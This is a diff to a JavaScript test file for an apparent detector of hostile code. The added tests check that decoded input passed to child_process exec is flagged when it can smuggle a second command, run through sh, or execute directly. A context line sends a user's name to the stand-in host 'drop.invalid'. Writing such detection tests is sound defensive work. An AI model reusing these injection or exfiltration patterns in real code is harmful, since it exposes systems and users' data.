@@ -259,3 +259,16 @@ describe('a pipe named after the user', () => {
     expect(found(`${named} const s = net.connect(9, 'drop.invalid'); s.write(name);`, 'exfiltration')).toHaveLength(1);
   });
 });
+
+describe('a program that only asks the system', () => {
+  const decoded = "const { exec } = require('child_process'); const from = (line) => decodeURIComponent(line.replace(/x/g, '%'));";
+  it('may be given a name that was decoded', () => {
+    expect(found(`${decoded} exports.disk = (line) => exec(\`lsblk -b /dev/\${from(line)}\`);`, 'decode-execute')).toEqual([]);
+  });
+
+  it('but not where it is one of several commands, or may be another', () => {
+    expect(found(`${decoded} exports.disk = (line) => exec(\`lsblk; \${from(line)}\`);`, 'decode-execute')).toHaveLength(1);
+    expect(found(`${decoded} exports.disk = (line) => exec(\`sh \${from(line)}\`);`, 'decode-execute')).toHaveLength(1);
+    expect(found(`${decoded} exports.disk = (line) => exec(from(line));`, 'decode-execute')).toHaveLength(1);
+  });
+});
